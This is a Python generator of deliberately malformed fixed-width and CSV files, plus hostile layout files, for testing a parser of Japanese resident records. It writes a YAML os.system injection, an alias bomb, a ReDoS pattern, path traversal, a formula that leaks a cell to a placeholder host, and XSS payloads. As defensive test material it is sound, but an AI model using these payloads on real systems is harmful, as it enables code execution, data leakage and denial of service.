#!/usr/bin/env python3
"""Write nasty fixed-width / CSV inputs for the 6-field "resident6" layout, with a JSON manifest.

    python make_badinputs.py --out DIR [--seed N] [--records N] [--only F01,C05] [--huge] [--list]

Output is byte-deterministic for a given (seed, records).  A different seed moves every fault to other
records and changes every value: score with several seeds and record counts.
All people, numbers and addresses are invented.  See README.md for the layout and the policy that decides
what a good tool must do.  Python >= 3.9, standard library only.
"""
import argparse, gzip, hashlib, io, json, os, random, stat, sys, zipfile

FIELDS = [("atena_no", 0, 10), ("kojin_no", 10, 12), ("name", 22, 40),
          ("birth", 62, 7), ("address", 69, 48), ("amount", 117, 9)]
RECLEN = 126
HEADER = [f[0] for f in FIELDS]
CRLF = b"\r\n"

# ---------------------------------------------------------------- good values
SEI = "例示 試験 架空 見本 仮名 検証 模擬 想定 標本 雛形".split()
MEI = "太郎 花子 一郎 二葉 三奈 四郎 五月 六実 七海 八重".split()
CHO = "例示町 見本町 架空台 試験丘 検証ケ浜 ソ表能町".split()      # ソ 表 能 have 0x5C trail bytes


def check_digit(d11):
    s = 0
    for n, ch in enumerate(reversed(d11), 1):
        s += int(ch) * (n + 1 if n <= 6 else n - 5)
    r = s % 11
    return "0" if r <= 1 else str(11 - r)


def zoned(cents, neg=False):
    """S9(7)V99 DISPLAY, sign overpunched on the last digit, ASCII convention {A-I / }J-R."""
    s = f"{abs(cents):09d}"
    tab = "}JKLMNOPQR" if neg else "{ABCDEFGHI"
    return s[:-1] + tab[int(s[-1])]


class Gen:
    def __init__(self, seed, n):
        self.rng, self.n, self.seed = random.Random(seed), n, seed
        self.canaries, self.made = set(), []

    def person(self, i):
        r = self.rng
        atena = f"{1000000000 + self.seed % 1000 * 1000000 + i * 7:010d}"
        d11 = f"{r.randrange(10**11):011d}"
        kojin = d11 + check_digit(d11) if r.random() < 0.8 else ""
        name = r.choice(SEI) + "　" + r.choice(MEI) + r.choice("壱弐参肆伍")
        birth = f"3{r.randrange(2,64):02d}{r.randrange(1,13):02d}{r.randrange(1,29):02d}"      # Showa 2-63
        addr = f"架空県{r.choice(CHO)}{r.randrange(1,99)}-{r.randrange(1,99)}"
        cents, neg = r.randrange(0, 99999999), r.random() < 0.3
        self.canaries.update(x for x in (kojin, name, addr) if x)
        p = dict(atena_no=atena, kojin_no=kojin, name=name, birth=birth, address=addr, amount=(cents, neg))
        self.made.append(p)
        return p

    def people(self, n=None):
        return [self.person(i) for i in range(n or self.n)]

    def pick(self, k=1, lo=2, hi=None):
        return sorted(self.rng.sample(range(lo, (hi or self.n) - 1), k))


def pad(b, w, p):
    assert (w - len(b)) % len(p) == 0 and len(b) <= w, (b, w)
    return b + p * ((w - len(b)) // len(p))


def fixed(p, **raw):
    """One 126-byte record; keyword = raw bytes override for a field (must have the field width)."""
    amt = zoned(*p["amount"]) if isinstance(p["amount"], tuple) else p["amount"]
    cols = dict(atena_no=pad(p["atena_no"].encode(), 10, b" "), kojin_no=pad(p["kojin_no"].encode(), 12, b" "),
                name=pad(p["name"].encode("cp932"), 40, b"\x81\x40"), birth=pad(p["birth"].encode(), 7, b" "),
                address=pad(p["address"].encode("cp932"), 48, b" "), amount=amt.encode())
    cols.update(raw)
    for name, off, w in FIELDS:
        assert len(cols[name]) == w, (name, len(cols[name]), w)
    return b"".join(cols[f[0]] for f in FIELDS)


def csvrow(p, raw=None):
    amt = p["amount"]
    if isinstance(amt, tuple):
        amt = f"{'-' if amt[1] and amt[0] else ''}{amt[0]//100}.{amt[0]%100:02d}"
    vals = [p["atena_no"], p["kojin_no"], p["name"], p["birth"], p["address"], amt]
    if raw:
        vals = [raw.get(h, v) for h, v in zip(HEADER, vals)]
    return vals


def q(v):
    return '"' + v.replace('"', '""') + '"' if any(c in v for c in '",\r\n') else v


def csvline(vals):
    return ",".join(q(v) for v in vals)


def csvfile(rows, term="\r\n", enc="utf-8", last=True, header=True):
    lines = ([",".join(HEADER)] if header else []) + [csvline(r) for r in rows]
    s = term.join(lines) + (term if last else "")
    return s.encode(enc)


# ---------------------------------------------------------------- registry
CASES = []


def case(cid, fmt, title, verdicts, must, **kw):
    """verdicts: allowed outcomes, preferred first.  The builder returns (bytes | callable(path), expect-dict)."""
    def deco(fn):
        CASES.append(dict(id=cid, format=fmt, title=title, allowed_verdicts=verdicts, must=must,
                          builder=fn, **kw))
        return fn
    return deco


def F(cid, title, verdicts, must, **kw):
    kw.setdefault("encoding", "cp932"), kw.setdefault("terminator", "CRLF")
    return case(cid, "fixed", title, verdicts, must, **kw)


def C(cid, title, verdicts, must, **kw):
    kw.setdefault("encoding", "utf-8"), kw.setdefault("terminator", "any")
    return case(cid, "csv", title, verdicts, must, **kw)


ACC, CLE, REJ, REF = "accept", "cleanse", "reject_records", "refuse_file"


def per_record(g, muts):
    """muts: list of (label, verdict, code, raw-field-dict).  Put each on its own record; rest are good."""
    ps = g.people(max(g.n, len(muts) + 4))
    pos = sorted(g.rng.sample(range(1, len(ps) - 1), len(muts)))
    recs, info = [], []
    m = dict(zip(pos, muts))
    for i, p in enumerate(ps):
        if i in m:
            label, v, code, raw = m[i]
            if callable(raw):
                raw = raw(p)
            recs.append(fixed(p, **raw))
            info.append(dict(n=i + 1, offset=i * (RECLEN + 2), what=label, verdict=v, code=code))
        else:
            recs.append(fixed(p))
    rej = sum(1 for x in info if x["verdict"] == "reject")
    return CRLF.join(recs) + CRLF, dict(n_ok=len(ps) - rej, n_reject_min=rej, n_reject_max=rej, records=info)


def per_row(g, muts, enc="utf-8"):
    """Same for CSV; raw may be a field dict or ('line', bytes) replacing the whole physical record."""
    ps = g.people(max(g.n, len(muts) + 4))
    pos = sorted(g.rng.sample(range(1, len(ps) - 1), len(muts)))
    m, out, info = dict(zip(pos, muts)), [",".join(HEADER).encode()], []
    for i, p in enumerate(ps):
        if i in m:
            label, v, code, raw = m[i]
            if callable(raw):
                raw = raw(p)
            out.append(raw[1] if isinstance(raw, tuple) else csvline(csvrow(p, raw)).encode(enc, "surrogatepass"))
            info.append(dict(n=i + 1, what=label, verdict=v, code=code))
        else:
            out.append(csvline(csvrow(p)).encode(enc))
    rej = sum(1 for x in info if x["verdict"] == "reject")
    return CRLF.join(out) + CRLF, dict(n_ok=len(ps) - rej, n_reject_min=rej, n_reject_max=rej, records=info)


def ok(n):
    return dict(n_ok=n, n_reject_min=0, n_reject_max=0)


def body(g, term=CRLF):
    return term.join(fixed(p) for p in g.people()) + term


# ---------------------------------------------------------------- fixed-width: framing
@F("F01", "clean baseline (0x5C trail bytes ソ表能 included)", [ACC], "read every record, change nothing")
def _(g): return body(g), ok(g.n)

@F("F02", "no terminator after the last record", [ACC], "last record kept; no phantom empty record")
def _(g): return body(g)[:-2], ok(g.n)

@F("F03", "LF where the layout says CRLF", [ACC, REF], "accept with one file-level warning, or refuse; never 1 giant record")
def _(g): return body(g, b"\n"), ok(g.n)


@F("F05", "CR-only terminators", [ACC, REF], "never silently one record or zero records")
def _(g): return body(g, b"\r"), ok(g.n)

@F("F06", "no terminators at all (RECFM=F)", [ACC], "length framing", terminator="none")
def _(g): return body(g, b""), ok(g.n)

@F("F07", "0x1A (Ctrl-Z) after the last record", [ACC, CLE], "EOF mark is noted, is not a record")
def _(g): return body(g) + b"\x1a", ok(g.n)


@F("F09", "UTF-8 BOM before a cp932 file", [REF, CLE, REJ], "never shift record 1 by 3 bytes; say 'BOM'")
def _(g): return b"\xef\xbb\xbf" + body(g), dict(n_ok_in=[g.n, g.n - 1], n_reject_min=0)

@F("F10", "UTF-16LE + BOM supplied as cp932", [REF], "refuse with the detected encoding in the message")
def _(g): return b"\xff\xfe" + body(g).decode("cp932").encode("utf-16-le"), None


@F("F12", "whole file is UTF-8 though declared cp932", [REF], "refuse: do not produce mojibake or N rejects for one cause")
def _(g): return body(g).decode("cp932").encode("utf-8"), None

@F("F13", "gzip bytes under a .dat name", [REF], "refuse by magic number; no transparent decompression")
def _(g):
    b = io.BytesIO()
    with gzip.GzipFile(fileobj=b, mode="wb", mtime=0, filename="") as z: z.write(body(g))
    return b.getvalue(), None


@F("F15", "empty file (0 bytes)", [REF, ACC], "zero input is an error unless the control total says 0; exit code and report say so")
def _(g): return b"", ok(0)

@F("F16", "only line terminators", [REF, REJ], "blank lines are counted, never turned into records of nulls")
def _(g): return CRLF * 5, dict(n_ok=0, n_reject_min=0)

@F("F17", "one record one byte short", [REJ, REF], "reject exactly that record, resynchronise, keep the rest")
def _(g):
    ps = g.people(); k = g.pick()[0]
    rs = [fixed(p) for p in ps]; rs[k] = rs[k][:100] + rs[k][101:]
    return CRLF.join(rs) + CRLF, dict(n_ok=g.n - 1, n_reject_min=1, n_reject_max=1, records=[dict(n=k + 1, offset=k * 128, verdict="reject", code="LEN_SHORT")])


@F("F19", "file cut in the last record", [REF, REJ], "report truncation with byte offset; never pad and accept")
def _(g): return body(g)[:-(2 + 40)], dict(n_ok=g.n - 1, n_reject_min=1, n_reject_max=1)


# ---------------------------------------------------------------- fixed-width: characters
@F("F22", "DBCS lead byte is the last byte of a field (trail lost): name, then address", [REJ], "reject; do not pair it with the first byte of birth")
def _(g): return per_record(g, [("half DBCS at field end", "reject", "ENC_HALF_DBCS", dict(name=b"1" + "架".encode("cp932") * 19 + b"\x89")),
                          ("half DBCS at field end, mixed field", "reject", "ENC_HALF_DBCS", dict(address=b"1" + "架".encode("cp932") * 23 + b"\x89"))])


@F("F24", "invalid trail byte 0x82 0x20; undefined 0x8540; JIS2004-only 0x9873", [REJ], "three rejects with byte offsets; no U+FFFD, no '?' in output")
def _(g):
    mk = lambda b: dict(address=pad(b, 48, b" "))
    return per_record(g, [("0x8220", "reject", "ENC_INVALID", mk(b"\x82\x20\x82\x20")), ("0x8540", "reject", "ENC_INVALID", mk(b"\x85\x40")),
                          ("0x9873", "reject", "ENC_INVALID", mk(b"\x98\x73"))])


@F("F26", "gaiji: user-defined 0xF040..0xF9FC (PUA)", [ACC, REJ], "listed in the gaiji report by code point + record number; never replaced by ? or 〓 without a rule")
def _(g):
    return per_record(g, [(c.hex(), "flag", "GAIJI", dict(name=pad("例".encode("cp932") + c, 40, b"\x81\x40"))) for c in (b"\xf0\x40", b"\xf4\xfc", b"\xf9\xfc")])

@F("F27", "NEC/IBM duplicates: ED40=FA5C, 879A=81E6=FA5B, EEF9=FA54=81CA", [ACC, CLE], "same character from different bytes compares equal downstream; mapping reported")
def _(g):
    mk = lambda b: dict(name=pad("例".encode("cp932") + b, 40, b"\x81\x40"))
    return per_record(g, [(b.hex(), "ok", "DUP_CODE", mk(b)) for b in (b"\xed\x40", b"\xfa\x5c", b"\x87\x9a", b"\x81\xe6", b"\xfa\x5b", b"\xee\xf9", b"\xfa\x54", b"\x81\xca")])

@F("F28", "髙 FBFC, \ufa11 FAB1, ㈱ 878A, ① 8740", [ACC], "kept as is: no NFKC folding of names")
def _(g):
    mk = lambda b: dict(name=pad(b + "例".encode("cp932"), 40, b"\x81\x40"))
    return per_record(g, [(b.hex(), "ok", None, mk(b)) for b in (b"\xfb\xfc", b"\xfa\xb1", b"\x87\x8a", b"\x87\x40")])


@F("F30", "half-width katakana and ASCII inside a full-width-only field", [REJ, CLE], "reject, or widen and count")
def _(g):
    return per_record(g, [("ｱｲ", "reject", "NOT_FULLWIDTH", dict(name=pad(b"\xb1\xb2", 40, b"\x81\x40"))), ("AB", "reject", "NOT_FULLWIDTH", dict(name=pad(b"AB", 40, b"\x81\x40")))])

@F("F31", "full-width field padded with ASCII spaces; ASCII field with ideographic spaces", [CLE, ACC], "trimmed, trim counted")
def _(g):
    return per_record(g, [("0x20 pad", "ok", "TRIM", dict(name=pad("例示花子".encode("cp932"), 40, b"  "))), ("0x8140 pad", "ok", "TRIM", dict(address=pad("架空県".encode("cp932"), 48, b"\x81\x40")))])


@F("F33", "TAB, CR, LF, DEL, SO/SI inside fields of a full-length record", [REJ, CLE], "length framing wins over newlines; later records unshifted")
def _(g):
    mk = lambda b: dict(address=pad("架空県".encode("cp932") + b + b"12", 48, b" "))
    return per_record(g, [(repr(b), "reject", "CTRL_CHAR", mk(b)) for b in (b"\t", b"\r", b"\n", b"\x7f", b"\x0e", b"\x0f")])


# ---------------------------------------------------------------- fixed-width: values
@F("F35", "zoned decimals: }J-R negatives, {A-I positives, unsigned, p-y (Micro Focus), -0", [ACC, REJ], "decoded values equal expect.values (cents)")
def _(g):
    vals = [("00001234E", 12345), ("00001234N", -12345), ("00000000{", 0), ("00000000}", 0), ("99999999I", 999999999), ("99999999R", -999999999), ("000012345", 12345)]
    vals.append(("00001234u", -12345))                   # Micro Focus negative: layout-dependent, so only a flag
    b, e = per_record(g, [(s, "flag" if "u" in s else "ok", None, dict(amount=s.encode())) for s, _ in vals])
    for r, (s, c) in zip(e["records"], vals): r["value_cents"] = c
    return b, e

@F("F36", "broken zoned decimals: blank, embedded space, Z, leading +, full-width 5, minus sign", [REJ], "one reject each; blank never becomes 0 without a rule")
def _(g):
    return per_record(g, [(repr(s), "reject", "BAD_ZONED", dict(amount=s)) for s in (b"         ", b"0000 123E", b"00000123Z", b"+00001234", b"0000001" + "５".encode("cp932"), b"-00001234", b"0000p2345")])

@F("F37", "leap days: S55-02-29 ok, H12-02-29 ok, M33-02-29 (1900) bad, H13-02-29 bad", [REJ], "2 ok, 2 rejects")
def _(g):
    return per_record(g, [("S55", "ok", None, dict(birth=b"3550229")), ("H12", "ok", None, dict(birth=b"4120229")), ("M33=1900", "reject", "BAD_DATE", dict(birth=b"1330229")), ("H13", "reject", "BAD_DATE", dict(birth=b"4130229"))])


@F("F40", "impossible dates: era 6/0/A, month 13, day 32, R99", [REJ], "one reject each")
def _(g):
    return per_record(g, [(s, "reject", "BAD_DATE", dict(birth=s.encode())) for s in ("6010101", "0010101", "A010101", "3401301", "3400132", "5990101")])

@F("F41", "kojin_no: wrong check digit, 11 digits, full-width, all zero", [REJ], "one reject each; the number itself never appears in logs, messages or reports")
def _(g):
    def wrong(p):
        d = "12345678901"; c = check_digit(d)
        return dict(kojin_no=(d + str((int(c) + 1) % 10)).encode())
    return per_record(g, [("check digit", "reject", "BAD_CHECKDIGIT", wrong), ("11 digits", "reject", "NOT_DIGIT", dict(kojin_no=b"12345678901 ")),
                          ("full-width", "reject", "NOT_DIGIT", dict(kojin_no="１２３４５６".encode("cp932"))), ("zeros", "reject", "BAD_CHECKDIGIT", dict(kojin_no=b"0" * 12))])

@F("F42", "same key twice: identical record, then a conflicting one", [REJ], "both duplicates reported with both record numbers; which one wins is a rule, not file order luck")
def _(g):
    ps = g.people(); a, b = g.pick(2)
    rs = [fixed(p) for p in ps]
    c = dict(ps[b], name="模擬　重複")
    rs += [rs[a], fixed(c)]
    return CRLF.join(rs) + CRLF, dict(n_ok=g.n, n_reject_min=2, n_reject_max=4, n_ok_in=[g.n, g.n - 1, g.n - 2], records=[dict(n=g.n + 1, dup_of=a + 1, code="DUP_KEY"), dict(n=g.n + 2, dup_of=b + 1, code="DUP_KEY")])

# ---------------------------------------------------------------- fixed-width: files and storage faults
@F("F43", "control total says one record more than the file holds", [REF], "sender's count/sha256 (.ctl) is checked before anything is published", ctl="plus_one")
def _(g): return body(g), None


@F("F45", "one bit flipped: a digit of atena_no becomes a letter", [REJ, REF], "reject that record only")
def _(g):
    return per_record(g, [("bit 6", "reject", "NOT_DIGIT", lambda p: dict(atena_no=bytes([p["atena_no"].encode()[0] ^ 0x40]) + p["atena_no"].encode()[1:]))])


@F("F47", "preallocated tail: good records, then a 64 MiB sparse hole of NULs", [REF, REJ], "refuse quickly with bounded memory")
def _(g):
    data = body(g)
    def w(path):
        with open(path, "wb") as f: f.write(data); f.truncate(len(data) + 64 * 2**20)
    return w, dict(n_ok=g.n, n_reject_min=1)

@F("F48", "name with glob metacharacters: data[1].dat next to a decoy data1.dat", [ACC], "reads the named file (Polars glob=True opens the decoy)", filename="data[1].dat", decoy="data1.dat")
def _(g): return body(g), ok(g.n)


@F("F50", "input is a FIFO nobody writes to", [REF], "refuse non-regular files at once; do not hang", kind="fifo")
def _(g): return None, None

@F("F51", "the same file supplied twice under two names", [REF], "detected by content hash before processing; named in the report", twin="f51_copy.dat")
def _(g): return body(g), ok(g.n)

@F("F52", "1 GiB single line (sparse; needs --huge)", [REF, REJ], "bounded memory and time; message names the byte offset, prints no content", huge=True)
def _(g):
    head = fixed(g.person(0)) + CRLF
    def w(path):
        with open(path, "wb") as f: f.write(head + b"1234567890"); f.truncate(2**30)
    return w, dict(n_ok=1, n_reject_min=1)


# ---------------------------------------------------------------- CSV
@C("C01", "clean baseline", [ACC], "read every record, change nothing")
def _(g): return csvfile([csvrow(p) for p in g.people()]), ok(g.n)

@C("C02", "UTF-8 BOM", [ACC], "first column is still 'atena_no'")
def _(g): return b"\xef\xbb\xbf" + csvfile([csvrow(p) for p in g.people()]), ok(g.n)

@C("C03", "no newline at EOF", [ACC], "last record kept")
def _(g): return csvfile([csvrow(p) for p in g.people()], last=False), ok(g.n)


@C("C05", "embedded newlines, commas and doubled quotes inside quotes", [REJ, CLE, ACC], "one record each whatever the verdict; physical line numbers in messages stay right")
def _(g):
    return per_row(g, [("LF", "flag", "CTRL_CHAR", dict(address="架空県\n例示町1")), ("CRLF", "flag", "CTRL_CHAR", dict(address="架空県\r\n例示町2")), ("quote", "flag", None, dict(address='架空県"例示"町')), ("comma", "flag", None, dict(address="架空県,例示町"))])


@C("C07", "opening quote never closed", [REF, REJ], "must not swallow the rest of the file silently: every physical line accounted for")
def _(g):
    b, e = per_row(g, [("unterminated", "reject", "QUOTE", lambda p: ("line", csvline(csvrow(p)).replace("架空県", '"架空県', 1).encode()))])
    return b, dict(n_reject_min=1)

@C("C08", "one row with 7 fields, one with 5", [REJ, REF], "rejected, not truncated and not null-padded (Polars pads short rows without a word)")
def _(g):
    return per_row(g, [("7", "reject", "FIELD_COUNT", lambda p: ("line", (csvline(csvrow(p)) + ",x").encode())), ("5", "reject", "FIELD_COUNT", lambda p: ("line", csvline(csvrow(p)[:5]).encode()))])

@C("C09", "header only", [ACC, REF], "0 records is reported as 0, not as success with no mention")
def _(g): return csvfile([]), ok(0)

@C("C10", "empty file", [REF, ACC], "as F15")
def _(g): return b"", ok(0)

@C("C11", "duplicate header name", [REF], "refuse (Polars renames to x_duplicated_0)")
def _(g): return csvfile([csvrow(p) for p in g.people()]).replace(b"address", b"name", 1), None


@C("C13", "header row missing", [REF], "the first person is not taken as a header")
def _(g): return csvfile([csvrow(p) for p in g.people()], header=False), None

@C("C14", "semicolons instead of commas", [REF], "refuse with the reason, not N rejects")
def _(g): return csvfile([csvrow(p) for p in g.people()]).replace(b",", b";"), None

@C("C15", "one cp932 row in a UTF-8 file", [REJ, REF], "reject that row with its byte offset; no lossy decode")
def _(g): return per_row(g, [("cp932 bytes", "reject", "ENC_INVALID", lambda p: ("line", csvline(csvrow(p)).encode("cp932")))])


@C("C17", "NUL in a field", [REJ, CLE, REF], "never stored, never truncates")
def _(g): return per_row(g, [("NUL", "reject", "CTRL_CHAR", dict(address="架空県\0例示町"))])

@C("C18", "blank lines in the middle and at the end, and a line of spaces", [ACC, REJ, CLE], "blank lines are not people; the count of blank lines is reported")
def _(g):
    s = csvfile([csvrow(p) for p in g.people()]).split(CRLF); k = g.pick()[0]
    s[k:k] = [b"", b"   ", b""]
    return CRLF.join(s) + CRLF * 2, dict(n_ok=g.n, n_reject_min=0)

@C("C19", "trailing comma on every row and in the header", [REF, CLE], "unnamed 7th column is refused or dropped with a count")
def _(g): return b"".join(x + b"," + CRLF for x in csvfile([csvrow(p) for p in g.people()]).split(CRLF)[:-1]), dict(n_ok=g.n)

@C("C20", "spreadsheet formulas as data: = + - @ TAB CR and full-width ＝", [ACC, REJ], "standard-layout output unchanged; escaped in every CSV/Excel/HTML report")
def _(g):
    return per_row(g, [(repr(v), "flag", "FORMULA", dict(name=v)) for v in ('=HYPERLINK("http://x/"&A1,"例")', "+1+1", "-2*3", "@SUM(A1)", "＝１＋１", " =1+1")])

@C("C21", "HTML/JS as data", [ACC, REJ], "escaped in HTML reports; no remote reference in any report")
def _(g):
    return per_row(g, [("script", "flag", None, dict(address="<script>alert(1)</script>")), ("img", "flag", None, dict(address='"><img src=x onerror=alert(1)>')), ("md", "flag", None, dict(address="[x](javascript:alert(1))"))])

@C("C22", "Excel-mangled: leading zeros lost, 1.23457E+11, 2024/2/29, ####", [REJ], "rejected, not re-inflated")
def _(g):
    return per_row(g, [("lost zeros", "reject", "NOT_DIGIT", dict(atena_no="12345")), ("sci", "reject", "NOT_DIGIT", dict(kojin_no="1.23457E+11")), ("date", "reject", "BAD_DATE", dict(birth="2024/2/29")), ("hash", "reject", "BAD_DATE", dict(birth="#######"))])


@C("C25", "one 5 MB field", [REJ, REF], "bounded memory, TOO_LONG, value not echoed")
def _(g): return per_row(g, [("5MB", "reject", "TOO_LONG", dict(address="架" * 1_700_000))])


@C("C27", "leading/trailing spaces, full-width digits in a number field", [CLE, REJ], "trim/narrow only if the rule says so; each change counted")
def _(g):
    return per_row(g, [("spaces", "flag", "TRIM", lambda p: dict(name="  " + p["name"] + "　 ")), ("fw digits", "flag", "WIDTH", lambda p: dict(amount="１２３.４５"))])

@C("C28", "two files concatenated: UTF-8 then cp932, second header in the middle", [REF, REJ], "second header is not a person; encoding change reported")
def _(g):
    n = g.n // 2; ps = g.people()
    return csvfile([csvrow(p) for p in ps[:n]]) + csvfile([csvrow(p) for p in ps[n:]], enc="cp932"), dict(n_ok_in=[n], n_reject_min=1)

@C("C29", 'people called NULL, None, nan, NA, \\N, true, #N/A', [ACC], "text stays text")
def _(g):
    b, e = per_row(g, [(v, "ok", None, dict(name=v)) for v in ("NULL", "None", "nan", "NA", "\\N", "true", "#N/A")])
    return b, e

@C("C30", "gzip bytes under a .csv name (20,000 rows in a few hundred bytes)", [REF], "refuse by magic (Polars scan_csv decompresses without being asked)")
def _(g):
    b = io.BytesIO(); row = csvline(csvrow(g.person(0))).encode() + CRLF
    with gzip.GzipFile(fileobj=b, mode="wb", mtime=0, filename="") as z:
        z.write(",".join(HEADER).encode() + CRLF)
        for _ in range(200): z.write(row * 100)
    return b.getvalue(), None

@C("C31", "UTF-16LE with BOM", [REF, ACC], "refuse, or transcode with a file-level note")
def _(g): return b"\xff\xfe" + csvfile([csvrow(p) for p in g.people()]).decode().encode("utf-16-le"), ok(g.n)


# ---------------------------------------------------------------- hostile layouts (translate to the project's layout format)
LAYOUTS = {
    "L01_python_tag.yaml": ("!!python/object/apply:os.system ['touch PWNED_L01']\n", "safe loader only: refuse, nothing executed"),
    "L02_billion_laughs.yaml": ("".join([f"{c}: &{c} [{','.join(['*'+p]*9) if p else 'x'}]\n" for p, c in zip([None, *"abcdefgh"], "abcdefghi")]), "aliases forbidden or capped; < 1 s, < 200 MB"),
    "L03_redos.json": (json.dumps({"fields": [{"name": "a", "offset": 0, "length": 30, "pattern": "^(a+)+$"}]}), "linear-time engine, or the pattern is refused; 30 x 'a' + 'b' must answer in < 1 s"),
    "L04_overlap.json": (json.dumps({"record_length": 20, "fields": [{"name": "a", "offset": 0, "length": 12}, {"name": "b", "offset": 10, "length": 10}]}), "overlap refused unless declared REDEFINES"),
    "L05_traversal.json": (json.dumps({"output": "../../../../PWNED_L05.csv", "fields": [{"name": "a", "offset": 0, "length": 1}]}), "output stays under the output directory"),
    "L06_beyond_record.json": (json.dumps({"record_length": 10, "fields": [{"name": "a", "offset": 5, "length": 6}, {"name": "b", "offset": -1, "length": 3}]}), "refused at load time"),
    "L07_duplicate_keys.json": ('{"fields":[{"name":"a","offset":0,"length":1,"length":9}]}', "duplicate keys refused"),
    "L08_occurs_bomb.json": (json.dumps({"fields": [{"name": "a", "offset": 0, "length": 1, "occurs": 10**9}]}), "refused; bounded memory"),
}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=False, default="out"), ap.add_argument("--seed", type=int, default=20260401)
    ap.add_argument("--records", type=int, default=20), ap.add_argument("--only"), ap.add_argument("--huge", action="store_true")
    ap.add_argument("--list", action="store_true")
    a = ap.parse_args()
    if a.list:
        for c in CASES: print(c["id"], "/".join(c["allowed_verdicts"]).ljust(32), c["title"])
        print(len(CASES), "cases,", len(LAYOUTS), "layouts"); return
    only = set(a.only.split(",")) if a.only else None
    os.makedirs(a.out, exist_ok=True); man = []
    for c in CASES:
        if only and c["id"] not in only: continue
        if c.get("huge") and not a.huge: continue
        seed = int.from_bytes(hashlib.sha256(f"{a.seed}/{c['id']}".encode()).digest()[:6], "big")
        g = Gen(seed, max(a.records, c.get("min_records", 0)))
        data, exp = c["builder"](g)
        d = os.path.join(a.out, c["id"]); os.makedirs(d, exist_ok=True)
        fn = c.get("filename") or f"{c['id'].lower()}.{'dat' if c['format'] == 'fixed' else 'csv'}"
        path = os.path.join(d, fn)
        if os.path.lexists(path): os.remove(path)
        if c.get("kind") == "fifo": os.mkfifo(path)
        elif callable(data): data(path)
        else:
            with open(path, "wb") as f: f.write(data)
        if c.get("decoy"):
            with open(os.path.join(d, c["decoy"]), "wb") as f: f.write(fixed(Gen(seed + 1, 3).person(0)) + CRLF)
        if c.get("twin"):
            with open(os.path.join(d, c["twin"]), "wb") as f: f.write(data)
        ctl = None
        if c.get("ctl") == "plus_one": ctl = dict(records=g.n + 1, sha256=hashlib.sha256(data).hexdigest())
        if c.get("ctl") == "hash_of_original": ctl = dict(records=g.n, sha256=hashlib.sha256(exp.pop("_orig")).hexdigest()); exp = None
        if ctl:
            with open(path + ".ctl.json", "w") as f: json.dump(ctl, f)
        if exp and "n_ok" in exp:                        # range of accepted records over the allowed verdicts
            soft = {ACC, CLE} & set(c["allowed_verdicts"])
            flags = sum(1 for r in exp.get("records", []) if r.get("verdict") == "flag")
            rejs = sum(1 for r in exp.get("records", []) if r.get("verdict") == "reject")
            lo, hi = exp["n_ok"] - flags, exp["n_ok"] + (rejs if soft else 0)
            if "n_ok_in" in exp: lo, hi = min(exp["n_ok_in"]), max(exp["n_ok_in"])
            exp.update(n_ok_min=lo, n_ok_max=hi)
        elif exp and "n_ok_in" in exp: exp.update(n_ok_min=min(exp["n_ok_in"]), n_ok_max=max(exp["n_ok_in"]))
        touched = {r[k] for r in (exp or {}).get("records", []) for k in ("n", "dup_of") if k in r}
        good = {p["atena_no"]: [p["kojin_no"], p["name"], p["address"], -p["amount"][0] if p["amount"][1] else p["amount"][0]]
                for i, p in enumerate(g.made, 1) if i not in touched}
        maybe = [p["atena_no"] for i, p in enumerate(g.made, 1) if i in touched]
        reg = stat.S_ISREG(os.stat(path).st_mode)
        size = os.path.getsize(path) if reg else None
        sha = hashlib.sha256(open(path, "rb").read()).hexdigest() if reg and size < 2**28 else None
        man.append(dict(id=c["id"], dir=c["id"], file=fn, format=c["format"], declared_encoding=c["encoding"], terminator=c["terminator"],
                        title=c["title"], must=c["must"], allowed_verdicts=c["allowed_verdicts"], expect=exp,
                        size=size, sha256=sha, control=ctl, twin=c.get("twin"), decoy=c.get("decoy"), kind=c.get("kind", "file"),
                        pii_canaries=sorted(g.canaries), good=good, touched_keys=maybe))
    ld = os.path.join(a.out, "layouts"); os.makedirs(ld, exist_ok=True); lay = []
    for fn, (txt, must) in LAYOUTS.items():
        with open(os.path.join(ld, fn), "w") as f: f.write(txt)
        lay.append(dict(file="layouts/" + fn, must=must))
    with open(os.path.join(a.out, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(dict(layout=dict(record_length=RECLEN, fields=[dict(name=n, offset=o, length=w) for n, o, w in FIELDS]), seed=a.seed,
                       records=a.records, cases=man, layouts=lay), f, ensure_ascii=False, indent=1)
    print(f"{len(man)} cases -> {a.out}/manifest.json, {len(lay)} hostile layouts")


if __name__ == "__main__":
    main()
